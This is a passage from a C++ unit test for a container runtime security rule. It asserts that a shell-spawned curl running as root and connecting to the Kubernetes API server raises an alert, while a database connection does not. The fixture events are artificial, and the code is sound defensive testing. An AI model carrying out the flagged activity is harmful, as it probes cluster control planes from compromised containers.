    const std::string rule = "Contact K8S API Server From Container";

    auto fired = run(r, *event(71));
    ASSERT_EQ(fired.size(), 1u);
    EXPECT_EQ(fired[0].rule, rule);
    const json& a = fired[0].alert;
    EXPECT_EQ(a["priority"], "Notice");
    EXPECT_EQ(a["tags"].get<std::vector<std::string>>(), stable_rules().at(rule).tags);
    const json& of = a["output_fields"];
    EXPECT_EQ(of["fd.name"], "10.244.1.17:51234->10.96.0.1:443");
    EXPECT_EQ(of["fd.lport"], 51234);
    EXPECT_EQ(of["fd.rport"], 443);
    EXPECT_EQ(of["fd.type"], "ipv4");
    EXPECT_EQ(of["fd.l4proto"], "tcp");
    EXPECT_EQ(of["evt.type"], "connect");
    EXPECT_EQ(of["proc.name"], "curl");
    EXPECT_EQ(of["proc.pname"], "sh");
    EXPECT_EQ(of["user.name"], "root");
    EXPECT_EQ(of["container.id"], "c0ffee001122");
    EXPECT_EQ(of["container.image.repository"], "ghcr.io/acme/orders-api");
    EXPECT_EQ(of["k8s.ns.name"], "shop");

    EXPECT_TRUE(run(r, *event(72)).empty());  // the database connection stays silent
}

}  // namespace
